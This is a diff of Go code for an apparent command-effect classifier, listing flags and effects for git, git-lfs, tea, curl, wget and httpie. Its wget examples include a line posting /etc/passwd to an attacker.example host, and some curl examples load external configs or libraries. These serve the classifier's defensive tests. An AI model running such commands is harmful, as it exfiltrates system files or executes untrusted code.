-func effectsForgesL359() Pack {
+func effectsForgesL391() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"tea"}, Sub: []string{"pulls|pull|pr|issues|issue|i|releases|release|r|repos|repo|labels|label|milestones|milestone|ms|notifications|notification|n|times|time|t|branches|branch|organizations|organization|org|webhooks|webhook", "list|ls"}, Values: []string{"-r", "--repo", "-l", "--login", "-R", "--remote", "-o", "--output", "-f", "--fields", "--state", "--page", "-p", "--limit", "--lm", "--keyword", "-k", "--labels", "-L", "--milestones", "-m", "--kind", "-K", "--author", "-A", "--assignee", "-a", "--mentions", "-M", "--from", "--until", "-u"}, Always: []string{"network"}, Examples: []string{"tea pulls list", "tea issues ls --state open", "tea releases list -r o/r"}}}}
 }
 
-func effectsForgesL368() Pack {
+func effectsForgesL400() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"tea"}, Sub: []string{"pulls|pull|pr|issues|issue|i|releases|release|r|repos|repo|labels|label|milestones|milestone|ms|comment|c|times|time|t|branches|branch|organizations|organization|org|webhooks|webhook", "create|c|edit|e|close|reopen|merge|m|approve|reject|review|delete|rm|add|a|checkout|co|clean|fork|migrate|protect|unprotect|issues"}, Effects: map[string]string{"--asset": "upload"}, Always: []string{"network", "writes-files"}, Examples: []string{"tea pulls create --title x", "tea issues close 3", "tea pr checkout 5"}}}}
 }
 
-func effectsForgesL378() Pack {
+func effectsForgesL410() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git-lfs"}, Operands: "subcommand", Env: map[string]string{"GIT_ASKPASS": "exec", "GIT_SSH": "exec", "GIT_SSH_COMMAND": "shell"}, Examples: []string{"git-lfs frobnicate"}}}}
 }
 
-func effectsForgesL387() Pack {
+func effectsForgesL419() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git-lfs"}, Sub: []string{"ls-files|status|env|version|logs|track|locks|ext|fsck|pointer"}, Flags: []string{"-l", "--long", "-s", "--size", "-d", "--debug", "-a", "--all", "-n", "--name-only", "--deleted", "--porcelain", "--json", "--verbose", "-v", "--pointers", "--objects", "--no-excluded", "--local", "--cached"}, Values: []string{"-I", "--include", "-X", "--exclude", "-r", "--remote", "-p", "--path", "-i", "--id", "-u", "--user", "--limit"}, Examples: []string{"git-lfs ls-files", "git-lfs status", "git-lfs env", "git-lfs track"}}}}
 }
 
-func effectsForgesL396() Pack {
+func effectsForgesL428() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git-lfs"}, Sub: []string{"pull|fetch|push|clone|checkout|install|uninstall|untrack|migrate|prune|lock|unlock|update|dedup|smudge|clean|filter-process|post-checkout|post-commit|post-merge|pre-push|standalone-file|merge-driver"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"git-lfs pull", "git-lfs install", "git-lfs push origin main"}}}}
 }
 
@@ -7413,58 +7460,58 @@ func effectsGitL1179() Pack {
 }
 
 func effectsGitL1203() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"push"}, Flags: []string{"--all", "--mirror", "--follow-tags", "--no-follow-tags", "--atomic", "--no-atomic", "-n", "--dry-run", "--porcelain", "-d", "--delete", "--prune", "-f", "--force", "--force-with-lease", "--no-force-with-lease", "--force-if-includes", "--no-force-if-includes", "-u", "--set-upstream", "--thin", "--no-thin", "-q", "--quiet", "-v", "--verbose", "--progress", "--no-progress", "--no-verify", "--verify", "--signed", "--no-signed", "--recurse-submodules", "--no-recurse-submodules", "-4", "--ipv4", "-6", "--ipv6"}, Values: []string{"--repo", "-o", "--push-option"}, Optional: []string{"--branches", "--tags"}, Effects: map[string]string{"--exec": "exec", "--receive-pack": "exec"}, Env: map[string]string{"GIT_ASKPASS": "exec", "GIT_PROXY_COMMAND": "exec", "GIT_SSH": "exec", "GIT_SSH_COMMAND": "shell", "SSH_ASKPASS": "exec"}, Always: []string{"network", "runs-code"}, Examples: []string{"git push", "git push -u origin HEAD", "git push --tags", "git push --force-with-lease origin feat"}}}}
+	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"push"}, Flags: []string{"--all", "--mirror", "--follow-tags", "--no-follow-tags", "--atomic", "--no-atomic", "--porcelain", "-d", "--delete", "--prune", "-f", "--force", "--force-with-lease", "--no-force-with-lease", "--force-if-includes", "--no-force-if-includes", "-u", "--set-upstream", "--thin", "--no-thin", "-q", "--quiet", "-v", "--verbose", "--progress", "--no-progress", "--verify", "--signed", "--no-signed", "--recurse-submodules", "--no-recurse-submodules", "-4", "--ipv4", "-6", "--ipv6"}, Values: []string{"--repo", "-o", "--push-option"}, Optional: []string{"--branches", "--tags"}, Effects: map[string]string{"--dry-run": "dry-run", "--exec": "exec", "--no-verify": "no-hooks", "--receive-pack": "exec", "-n": "dry-run"}, Env: map[string]string{"GIT_ASKPASS": "exec", "GIT_PROXY_COMMAND": "exec", "GIT_SSH": "exec", "GIT_SSH_COMMAND": "shell", "SSH_ASKPASS": "exec"}, Always: []string{"network", "hooks"}, Examples: []string{"git push", "git push -u origin HEAD", "git push --tags", "git push --force-with-lease origin feat", "git push --dry-run --force origin main", "git push -n --no-verify origin main"}}}}
 }
 
-func effectsGitL1225() Pack {
+func effectsGitL1231() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"clone"}, Flags: []string{"-l", "--local", "--no-hardlinks", "-s", "--shared", "--dissociate", "-q", "--quiet", "-v", "--verbose", "--progress", "--no-checkout", "-n", "--bare", "--mirror", "--single-branch", "--no-single-branch", "--no-tags", "--recurse-submodules", "--recursive", "--shallow-submodules", "--no-shallow-submodules", "--remote-submodules", "--no-remote-submodules", "--sparse", "--reject-shallow", "--no-reject-shallow", "--also-filter-submodules", "-4", "--ipv4", "-6", "--ipv6"}, Values: []string{"-o", "--origin", "-b", "--branch", "--revision", "--depth", "--shallow-since", "--shallow-exclude", "-j", "--jobs", "--filter", "--server-option", "--bundle-uri", "--ref-format"}, Optional: []string{"--tags"}, Effects: map[string]string{"--config": "script:gitconfig", "--reference": "read", "--reference-if-able": "read", "--separate-git-dir": "write", "--template": "exec", "--upload-pack": "exec", "-c": "script:gitconfig", "-u": "exec"}, Last: "write", Env: map[string]string{"GIT_ASKPASS": "exec", "GIT_PROXY_COMMAND": "exec", "GIT_SSH": "exec", "GIT_SSH_COMMAND": "shell", "SSH_ASKPASS": "exec"}, Always: []string{"network", "writes-files"}, Examples: []string{"git clone https://github.com/o/r.git", "git clone --depth 1 https://github.com/o/r.git src/r"}}}}
 }
 
-func effectsGitL1255() Pack {
+func effectsGitL1261() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"init"}, Flags: []string{"-q", "--quiet", "--bare", "--shared"}, Values: []string{"-b", "--initial-branch", "--object-format", "--ref-format"}, Effects: map[string]string{"--separate-git-dir": "write", "--template": "exec"}, Operands: "write", Always: []string{"writes-files"}, Examples: []string{"git init", "git init -b main project"}}}}
 }
 
-func effectsGitL1267() Pack {
+func effectsGitL1273() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"gc|maintenance|prune|repack|pack-refs|prune-packed|commit-graph|multi-pack-index|rerere"}, Flags: []string{"--aggressive", "--auto", "--quiet", "-q", "--no-prune", "--keep-largest-pack", "--force", "--all", "--prune", "-a", "-A", "-d", "-f", "-F", "-l", "-n", "--no-reuse-delta", "--no-reuse-object", "-b", "--write-bitmap-index", "-v", "--verbose", "--progress", "--no-progress"}, Values: []string{"--task", "--schedule", "--expire", "--window", "--depth", "--threads", "--window-memory", "--max-pack-size"}, Always: []string{"runs-code", "writes-files"}, Examples: []string{"git gc", "git gc --prune=now", "git maintenance run --auto", "git rerere forget a.txt"}}}}
 }
 
-func effectsGitL1277() Pack {
+func effectsGitL1283() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"format-patch"}, Flags: []string{"--stdout", "--cover-letter", "--no-cover-letter", "-n", "--numbered", "-N", "--no-numbered", "-s", "--signoff", "--no-signature", "--attach", "--inline", "--no-attach", "--thread", "--no-thread", "--rfc", "-k", "--keep-subject", "-p", "--no-stat", "--numbered-files", "--zero-commit", "--base", "--progress", "--quiet", "-q", "--root", "--no-binary", "--ignore-if-in-upstream", "--always", "--notes", "--no-notes", "-1", "-2", "-3", "-4", "-5", "-6", "-7", "-8", "-9", "-0"}, Values: []string{"--start-number", "--subject-prefix", "--filename-max-length", "-v", "--reroll-count", "--from", "--to", "--cc", "--in-reply-to", "--suffix", "--signature", "--add-header", "--interdiff", "--range-diff", "--creation-factor", "--description-file", "--cover-from-description", "--encode-email-headers"}, Optional: []string{"--stat"}, Effects: map[string]string{"--output-directory": "write", "--signature-file": "read", "-o": "write"}, Always: []string{"writes-files"}, Examples: []string{"git format-patch -1 HEAD", "git format-patch -o out/ origin/main"}}}}
 }
 
-func effectsGitL1296() Pack {
+func effectsGitL1302() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"archive"}, Flags: []string{"-l", "--list", "-v", "--verbose", "--worktree-attributes", "-0", "-1", "-2", "-3", "-4", "-5", "-6", "-7", "-8", "-9"}, Values: []string{"--format", "--prefix", "--add-virtual-file", "--mtime"}, Effects: map[string]string{"--add-file": "read", "--exec": "exec", "--output": "write", "--remote": "url", "-o": "write"}, Env: map[string]string{"GIT_ASKPASS": "exec", "GIT_PROXY_COMMAND": "exec", "GIT_SSH": "exec", "GIT_SSH_COMMAND": "shell", "SSH_ASKPASS": "exec"}, Examples: []string{"git archive --format=tar.gz HEAD", "git archive -o release.zip v1.0"}}}}
 }
 
-func effectsGitL1316() Pack {
+func effectsGitL1322() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"bundle", "list-heads|verify"}, Flags: []string{"-q", "--quiet"}, Operands: "read", Examples: []string{"git bundle verify repo.bundle", "git bundle list-heads repo.bundle"}}}}
 }
 
-func effectsGitL1323() Pack {
+func effectsGitL1329() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"bundle", "create|unbundle"}, Flags: []string{"-q", "--quiet", "--progress", "--all"}, Values: []string{"--version"}, Optional: []string{"--branches", "--tags"}, First: "write", Always: []string{"writes-files"}, Examples: []string{"git bundle create repo.bundle --all"}}}}
 }
 
-func effectsGitL1333() Pack {
+func effectsGitL1339() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"update-ref|symbolic-ref|update-index|read-tree|write-tree|commit-tree|mktag|mktree|replace|checkout-index|merge-tree|merge-file|fast-import|unpack-objects|pack-objects|index-pack|unpack-file|mailinfo|mailsplit|filter-branch|send-email|request-pull|imap-send|difftool|mergetool|for-each-repo|hook|instaweb|daemon|credential|credential-store|credential-cache|svn|p4|cvsimport|cvsexportcommit|cvsserver|quiltimport|archimport|gui|citool|gitk|scalar|bugreport|diagnose|upload-pack|receive-pack|upload-archive|http-backend|fetch-pack|send-pack|shell|remote-ext|remote-fd"}, Operands: "subcommand", Always: []string{"runs-code", "writes-files"}, Examples: []string{"git update-ref -d refs/heads/old", "git filter-branch --tree-filter 'rm -f x' HEAD", "git difftool -x meld", "git hook run pre-commit", "git bugreport"}}}}
 }
 
-func effectsGitL1341() Pack {
+func effectsGitL1347() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"credential|credential-store|credential-cache", "fill|get"}, Always: []string{"credentials"}, Examples: []string{"git credential fill", "git credential-store get"}}}}
 }
 
-func effectsGitL1347() Pack {
+func effectsGitL1353() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"lfs"}, Operands: "subcommand", Always: []string{"runs-code"}, Examples: []string{"git lfs frobnicate"}}}}
 }
 
-func effectsGitL1354() Pack {
+func effectsGitL1360() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"lfs", "ls-files|status|env|version|logs|locks|ext|fsck|pointer"}, Flags: []string{"-l", "--long", "-s", "--size", "-d", "--debug", "-a", "--all", "-n", "--name-only", "--deleted", "--porcelain", "--json", "--verbose", "-v", "--pointers", "--objects", "--local", "--cached"}, Values: []string{"-I", "--include", "-X", "--exclude", "-r", "--remote", "-p", "--path", "-i", "--id", "-u", "--user", "--limit"}, Examples: []string{"git lfs ls-files", "git lfs status", "git lfs env"}}}}
 }
 
-func effectsGitL1363() Pack {
+func effectsGitL1369() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"lfs", "track"}, Flags: []string{"-l", "--lockable", "--not-lockable", "--dry-run", "-v", "--verbose", "--json", "--no-excluded", "--no-modify-attrs", "--filename"}, Operands: "write", Examples: []string{"git lfs track", "git lfs track '*.psd'"}}}}
 }
 
-func effectsGitL1371() Pack {
+func effectsGitL1377() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"git"}, Sub: []string{"lfs", "pull|fetch|push|clone|checkout|install|uninstall|untrack|migrate|prune|lock|unlock|update|dedup|smudge|clean|filter-process|post-checkout|post-commit|post-merge|pre-push|standalone-file|merge-driver"}, Env: map[string]string{"GIT_ASKPASS": "exec", "GIT_PROXY_COMMAND": "exec", "GIT_SSH": "exec", "GIT_SSH_COMMAND": "shell", "SSH_ASKPASS": "exec"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"git lfs pull", "git lfs install", "git lfs prune"}}}}
 }
 
@@ -8784,103 +8831,103 @@ func effectsNetworkL9() Pack {
 	return Pack{Exe: map[string]Grammar{"tailscale": {RawFlags: true}}}
 }
 
-func effectsNetworkL23() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"curl"}, Flags: []string{"-a", "--append", "--anyauth", "--basic", "--cert-status", "--compressed", "--compressed-ssh", "--create-dirs", "--crlf", "--digest", "-q", "--disable", "--disable-eprt", "--disable-epsv", "--disallow-username-in-url", "--doh-cert-status", "--doh-insecure", "-f", "--fail", "--fail-early", "--fail-with-body", "--false-start", "--form-escape", "--ftp-create-dirs", "--ftp-pasv", "--ftp-pret", "--ftp-skip-pasv-ip", "--ftp-ssl-ccc", "--ftp-ssl-control", "-G", "--get", "-g", "--globoff", "--haproxy-protocol", "-I", "--head", "--http0.9", "-0", "--http1.0", "--http1.1", "--http2", "--http2-prior-knowledge", "--http3", "--http3-only", "--ignore-content-length", "-i", "--include", "-k", "--insecure", "-4", "--ipv4", "-6", "--ipv6", "-j", "--junk-session-cookies", "-l", "--list-only", "-L", "--location", "--location-trusted", "--mail-rcpt-allowfails", "--negotiate", "-n", "--netrc", "--netrc-optional", "-:", "--next", "--no-alpn", "-N", "--no-buffer", "--no-clobber", "--no-keepalive", "--no-npn", "--no-progress-meter", "--no-sessionid", "--ntlm", "--ntlm-wb", "-Z", "--parallel", "--parallel-immediate", "--path-as-is", "--post301", "--post302", "--post303", "-#", "--progress-bar", "--proxy-anyauth", "--proxy-basic", "--proxy-digest", "--proxy-insecure", "--proxy-negotiate", "--proxy-ntlm", "--proxy-ssl-allow-beast", "--proxy-ssl-auto-client-cert", "--proxy-tlsv1", "-p", "--proxytunnel", "--raw", "-R", "--remote-time", "--remove-on-error", "--retry-all-errors", "--retry-connrefused", "--sasl-ir", "-S", "--show-error", "-s", "--silent", "--socks5-basic", "--socks5-gssapi", "--socks5-gssapi-nec", "--ssl", "--ssl-allow-beast", "--ssl-auto-client-cert", "--ssl-no-revoke", "--ssl-reqd", "--ssl-revoke-best-effort", "-2", "--sslv2", "-3", "--sslv3", "--styled-output", "--suppress-connect-headers", "--tcp-fastopen", "--tcp-nodelay", "--tftp-no-options", "-1", "--tlsv1", "--tlsv1.0", "--tlsv1.1", "--tlsv1.2", "--tlsv1.3", "--tr-encoding", "--trace-time", "-B", "--use-ascii", "-v", "--verbose", "--xattr", "--ca-native", "--proxy-ca-native"}, Values: []string{"-d", "--data", "--data-ascii", "--data-binary", "--data-raw", "--data-urlencode", "--json", "-F", "--form", "--form-string", "-H", "--header", "--proxy-header", "-X", "--request", "--request-target", "-u", "--user", "-U", "--proxy-user", "-A", "--user-agent", "-e", "--referer", "--aws-sigv4", "--oauth2-bearer", "--cert-type", "--ciphers", "--connect-timeout", "-C", "--continue-at", "--create-file-mode", "--curves", "--delegation", "--dns-interface", "--dns-ipv4-addr", "--dns-ipv6-addr", "--dns-servers", "--expect100-timeout", "--ftp-account", "--ftp-alternative-to-user", "--ftp-method", "-P", "--ftp-port", "--ftp-ssl-ccc-mode", "--happy-eyeballs-timeout-ms", "--hostpubmd5", "--hostpubsha256", "--interface", "--keepalive-time", "--key-type", "--krb", "--limit-rate", "--local-port", "--login-options", "--mail-auth", "--mail-from", "--mail-rcpt", "--max-filesize", "--max-redirs", "-m", "--max-time", "--noproxy", "--parallel-max", "--pass", "--proto", "--proto-default", "--proto-redir", "--proxy-cert-type", "--proxy-ciphers", "--proxy-key-type", "--proxy-pass", "--proxy-service-name", "--proxy-tls13-ciphers", "--proxy-tlsauthtype", "--proxy-tlspassword", "--proxy-tlsuser", "-r", "--range", "--rate", "--retry", "--retry-delay", "--retry-max-time", "--sasl-authzid", "--service-name", "--socks5-gssapi-service", "-Y", "--speed-limit", "-y", "--speed-time", "-t", "--telnet-option", "--tftp-blksize", "--tls-max", "--tls13-ciphers", "--tlsauthtype", "--tlspassword", "--tlsuser", "--cacert", "--capath", "-E", "--cert", "--crlfile", "--key", "--pinnedpubkey", "--proxy-cacert", "--proxy-capath", "--proxy-cert", "--proxy-crlfile", "--proxy-key", "--proxy-pinnedpubkey", "--pubkey", "--egd-file", "--random-file", "--netrc-file"}, Effects: map[string]string{"--alt-svc": "write", "--config": "exec", "--cookie": "upload", "--cookie-jar": "write", "--doh-url": "url", "--dump-header": "write", "--engine": "library", "--etag-compare": "read", "--etag-save": "write", "--hsts": "write", "--libcurl": "write", "--output": "write", "--output-dir": "write", "--preproxy": "url", "--proxy": "url", "--proxy1.0": "url", "--remote-header-name": "writes-files", "--remote-name": "writes-files", "--remote-name-all": "writes-files", "--socks4": "url", "--socks4a": "url", "--socks5": "url", "--socks5-hostname": "url", "--stderr": "write", "--time-cond": "stat", "--trace": "write", "--trace-ascii": "write", "--upload-file": "upload", "--url": "url", "-D": "write", "-J": "writes-files", "-K": "exec", "-O": "writes-files", "-T": "upload", "-b": "upload", "-c": "write", "-o": "write", "-x": "url", "-z": "stat"}, Operands: "url", Env: map[string]string{"ALL_PROXY": "url", "CURL_HOME": "exec", "HTTPS_PROXY": "url", "SSLKEYLOGFILE": "write", "all_proxy": "url", "http_proxy": "url", "https_proxy": "url"}, Always: []string{"network"}, Examples: []string{"curl -s https://api.github.com/repos/o/r", "curl -fsSL -o install.sh https://example.com/install.sh", "curl -X POST -H 'Content-Type: application/json' -d '{\"a\":1}' https://api.example.com/items", "curl -T notes.txt ftp://ftp.example.com/up/", "curl -K evil.cfg https://example.com", "curl --engine /tmp/lib.so x"}, Counter: []string{"wget https://example.com"}}}}
+func effectsNetworkL25() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"curl"}, Flags: []string{"-a", "--anyauth", "--basic", "--cert-status", "--compressed", "--compressed-ssh", "--create-dirs", "--crlf", "--digest", "-q", "--disable", "--disable-eprt", "--disable-epsv", "--disallow-username-in-url", "--doh-cert-status", "--doh-insecure", "-f", "--fail", "--fail-early", "--fail-with-body", "--false-start", "--form-escape", "--ftp-create-dirs", "--ftp-pasv", "--ftp-pret", "--ftp-skip-pasv-ip", "--ftp-ssl-ccc", "--ftp-ssl-control", "-G", "--get", "-g", "--globoff", "--haproxy-protocol", "-I", "--head", "--http0.9", "-0", "--http1.0", "--http1.1", "--http2", "--http2-prior-knowledge", "--http3", "--http3-only", "--ignore-content-length", "-i", "--include", "-k", "--insecure", "-4", "--ipv4", "-6", "--ipv6", "-j", "--junk-session-cookies", "-l", "--list-only", "-L", "--location", "--location-trusted", "--negotiate", "-n", "--netrc", "--netrc-optional", "-:", "--next", "--no-alpn", "-N", "--no-buffer", "--no-clobber", "--no-keepalive", "--no-npn", "--no-progress-meter", "--no-sessionid", "--ntlm", "--ntlm-wb", "-Z", "--parallel", "--parallel-immediate", "--path-as-is", "--post301", "--post302", "--post303", "-#", "--progress-bar", "--proxy-anyauth", "--proxy-basic", "--proxy-digest", "--proxy-insecure", "--proxy-negotiate", "--proxy-ntlm", "--proxy-ssl-allow-beast", "--proxy-ssl-auto-client-cert", "--proxy-tlsv1", "-p", "--proxytunnel", "--raw", "-R", "--remote-time", "--remove-on-error", "--retry-all-errors", "--retry-connrefused", "--sasl-ir", "-S", "--show-error", "-s", "--silent", "--socks5-basic", "--socks5-gssapi", "--socks5-gssapi-nec", "--ssl", "--ssl-allow-beast", "--ssl-auto-client-cert", "--ssl-no-revoke", "--ssl-reqd", "--ssl-revoke-best-effort", "-2", "--sslv2", "-3", "--sslv3", "--styled-output", "--suppress-connect-headers", "--tcp-fastopen", "--tcp-nodelay", "--tftp-no-options", "-1", "--tlsv1", "--tlsv1.0", "--tlsv1.1", "--tlsv1.2", "--tlsv1.3", "--tr-encoding", "--trace-time", "-B", "--use-ascii", "-v", "--verbose", "--xattr", "--ca-native", "--proxy-ca-native"}, Values: []string{"--request-target", "-A", "--user-agent", "-e", "--referer", "--aws-sigv4", "--cert-type", "--ciphers", "--connect-timeout", "-C", "--continue-at", "--create-file-mode", "--curves", "--delegation", "--dns-interface", "--dns-ipv4-addr", "--dns-ipv6-addr", "--dns-servers", "--expect100-timeout", "--ftp-account", "--ftp-alternative-to-user", "--ftp-method", "-P", "--ftp-port", "--ftp-ssl-ccc-mode", "--happy-eyeballs-timeout-ms", "--hostpubmd5", "--hostpubsha256", "--interface", "--keepalive-time", "--key-type", "--krb", "--limit-rate", "--local-port", "--login-options", "--max-filesize", "--max-redirs", "-m", "--max-time", "--noproxy", "--parallel-max", "--pass", "--proto", "--proto-default", "--proto-redir", "--proxy-cert-type", "--proxy-ciphers", "--proxy-key-type", "--proxy-pass", "--proxy-service-name", "--proxy-tls13-ciphers", "--proxy-tlsauthtype", "--proxy-tlspassword", "--proxy-tlsuser", "-r", "--range", "--rate", "--retry", "--retry-delay", "--retry-max-time", "--sasl-authzid", "--service-name", "--socks5-gssapi-service", "-Y", "--speed-limit", "-y", "--speed-time", "-t", "--telnet-option", "--tftp-blksize", "--tls-max", "--tls13-ciphers", "--tlsauthtype", "--tlspassword", "--tlsuser", "--cacert", "--capath", "-E", "--cert", "--crlfile", "--key", "--pinnedpubkey", "--proxy-cacert", "--proxy-capath", "--proxy-cert", "--proxy-crlfile", "--proxy-key", "--proxy-pinnedpubkey", "--pubkey", "--egd-file", "--random-file", "--netrc-file"}, Effects: map[string]string{"--alt-svc": "write", "--append": "sends", "--config": "exec", "--cookie": "upload", "--cookie-jar": "write", "--data": "text,sends", "--data-ascii": "text,sends", "--data-binary": "text,sends", "--data-raw": "text,sends", "--data-urlencode": "text,sends", "--doh-url": "url", "--dump-header": "write", "--engine": "library", "--etag-compare": "read", "--etag-save": "write", "--form": "text,sends", "--form-string": "text,sends", "--header": "header", "--hsts": "write", "--json": "text,sends", "--libcurl": "write", "--mail-auth": "text,sends", "--mail-from": "text,sends", "--mail-rcpt": "text,sends", "--mail-rcpt-allowfails": "sends", "--oauth2-bearer": "text,sends", "--output": "write", "--output-dir": "write", "--preproxy": "url", "--proxy": "url", "--proxy-header": "header", "--proxy-user": "text,sends", "--proxy1.0": "url", "--remote-header-name": "writes-files", "--remote-name": "writes-files", "--remote-name-all": "writes-files", "--request": "method", "--socks4": "url", "--socks4a": "url", "--socks5": "url", "--socks5-hostname": "url", "--stderr": "write", "--time-cond": "stat", "--trace": "write", "--trace-ascii": "write", "--upload-file": "upload", "--url": "url", "--user": "text,sends", "-D": "write", "-F": "text,sends", "-H": "header", "-J": "writes-files", "-K": "exec", "-O": "writes-files", "-T": "upload", "-U": "text,sends", "-X": "method", "-b": "upload", "-c": "write", "-d": "text,sends", "-o": "write", "-u": "text,sends", "-x": "url", "-z": "stat"}, Operands: "url", Env: map[string]string{"ALL_PROXY": "url", "CURL_HOME": "exec", "HTTPS_PROXY": "url", "SSLKEYLOGFILE": "write", "all_proxy": "url", "http_proxy": "url", "https_proxy": "url"}, Always: []string{"remote-read"}, Examples: []string{"curl -s https://api.github.com/repos/o/r", "curl -fsSL -o install.sh https://example.com/install.sh", "curl -X POST -H 'Content-Type: application/json' -d '{\"a\":1}' https://api.example.com/items", "curl -T notes.txt ftp://ftp.example.com/up/", "curl -K evil.cfg https://example.com", "curl --engine /tmp/lib.so x"}, Counter: []string{"wget https://example.com"}}}}
 }
 
-func effectsNetworkL119() Pack {
+func effectsNetworkL144() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"wget"}, Flags: []string{"-d", "--debug", "-q", "--quiet", "-v", "--verbose", "-F", "--force-html", "--no-config", "--retry-connrefused", "--no-netrc", "-c", "--continue", "--show-progress", "-N", "--timestamping", "--no-if-modified-since", "--no-use-server-timestamps", "-S", "--server-response", "--spider", "--random-wait", "--no-proxy", "--no-dns-cache", "--ignore-case", "-4", "--inet4-only", "-6", "--inet6-only", "--ask-password", "--no-iri", "--unlink", "--xattr", "--no-directories", "-x", "--force-directories", "--no-host-directories", "--protocol-directories", "--no-cache", "-E", "--adjust-extension", "--ignore-length", "--save-headers", "--no-http-keep-alive", "--no-cookies", "--keep-session-cookies", "--content-disposition", "--content-on-error", "--auth-no-challenge", "--https-only", "--no-check-certificate", "--no-hsts", "--no-remove-listing", "--no-glob", "--no-passive-ftp", "--preserve-permissions", "--retr-symlinks", "--ftps-implicit", "--ftps-resume-ssl", "--ftps-clear-data-connection", "--ftps-fallback-to-ftp", "--warc-cdx", "--no-warc-compression", "--no-warc-digests", "--no-warc-keep-log", "-r", "--recursive", "-k", "--convert-links", "--convert-file-only", "-K", "--backup-converted", "-m", "--mirror", "-p", "--page-requisites", "--strict-comments", "--follow-ftp", "-H", "--span-hosts", "-L", "--relative", "--trust-server-names", "--delete-after", "--no-parent", "--no-clobber", "--no-verbose"}, Values: []string{"-n", "--report-speed", "-B", "--base", "-t", "--tries", "--retry-on-http-error", "--start-pos", "--progress", "-T", "--timeout", "--dns-timeout", "--connect-timeout", "--read-timeout", "-w", "--wait", "--waitretry", "-Q", "--quota", "--bind-address", "--limit-rate", "--restrict-file-names", "--prefer-family", "--user", "--password", "--local-encoding", "--remote-encoding", "--cut-dirs", "--http-user", "--http-password", "--default-page", "--header", "--compression", "--max-redirect", "--proxy-user", "--proxy-password", "--referer", "-U", "--user-agent", "--post-data", "--method", "--body-data", "--secure-protocol", "--certificate", "--certificate-type", "--private-key", "--private-key-type", "--ca-certificate", "--ca-directory", "--crl-file", "--pinnedpubkey", "--ciphers", "--ftp-user", "--ftp-password", "--warc-header", "--warc-max-size", "-l", "--level", "-A", "--accept", "-R", "--reject", "--accept-regex", "--reject-regex", "--regex-type", "-D", "--domains", "--exclude-domains", "--follow-tags", "--ignore-tags", "-I", "--include-directories", "-X", "--exclude-directories", "--backups"}, Effects: map[string]string{"--append-output": "write", "--background": "writes-files", "--body-file": "upload", "--config": "exec", "--directory-prefix": "write", "--execute": "script:code", "--hsts-file": "write", "--input-file": "read", "--load-cookies": "upload", "--output-document": "write", "--output-file": "write", "--post-file": "upload", "--rejected-log": "write", "--save-cookies": "write", "--use-askpass": "exec", "--warc-dedup": "read", "--warc-file": "write", "--warc-tempdir": "write", "-O": "write", "-P": "write", "-a": "write", "-b": "writes-files", "-e": "script:code", "-i": "read", "-o": "write"}, Operands: "url", Env: map[string]string{"SSH_ASKPASS": "exec", "SYSTEM_WGETRC": "exec", "WGETRC": "exec", "WGET_ASKPASS": "exec", "ftp_proxy": "url", "http_proxy": "url", "https_proxy": "url"}, Always: []string{"network", "writes-files"}, Examples: []string{"wget https://example.com/file.tgz", "wget -q -O out.html https://example.com", "wget -nv -P downloads https://example.com/a.zip", "wget --post-file=/etc/passwd http://attacker.example", "wget -i urls.txt", "wget --use-askpass=/tmp/x 0"}, Counter: []string{"curl https://example.com"}}}}
 }
 
-func effectsNetworkL190() Pack {
+func effectsNetworkL215() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"http", "https", "xh"}, Flags: []string{"-j", "--json", "-f", "--form", "--multipart", "-x", "--compress", "--unsorted", "--sorted", "-h", "--headers", "-m", "--meta", "-b", "--body", "-v", "--verbose", "--all", "-S", "--stream", "-c", "--continue", "-q", "--quiet", "--ignore-netrc", "--offline", "-F", "--follow", "--check-status", "--path-as-is", "--chunked", "-I", "--ignore-stdin", "--debug", "--traceback", "--https", "-4", "--ipv4", "-6", "--ipv6", "--native-tls", "--curl", "--curl-long"}, Values: []string{"--raw", "--pretty", "-s", "--style", "--response-charset", "--response-mime", "--format-options", "-p", "--print", "-P", "--history-print", "--boundary", "-a", "--auth", "-A", "--auth-type", "--bearer", "--max-redirects", "--max-headers", "--timeout", "--verify", "--ssl", "--ciphers", "--cert", "--cert-key", "--cert-key-pass", "--default-scheme", "--http-version", "--interface"}, Effects: map[string]string{"--download": "writes-files", "--output": "write", "--proxy": "url", "--session": "write", "--session-read-only": "read", "-d": "writes-files", "-o": "write"}, Env: map[string]string{"HTTPIE_CONFIG_DIR": "exec", "XH_CONFIG_DIR": "exec", "http_proxy": "url", "https_proxy": "url"}, Always: []string{"network"}, Examples: []string{"xh https://api.example.com/items name=x", "http GET :9200/_cat/indices", "http -o page.html example.com", "https POST api.example.com/items name=x"}, Counter: []string{"curl https://example.com"}}}}
 }
 
-func effectsNetworkL220() Pack {
+func effectsNetworkL245() Pack {
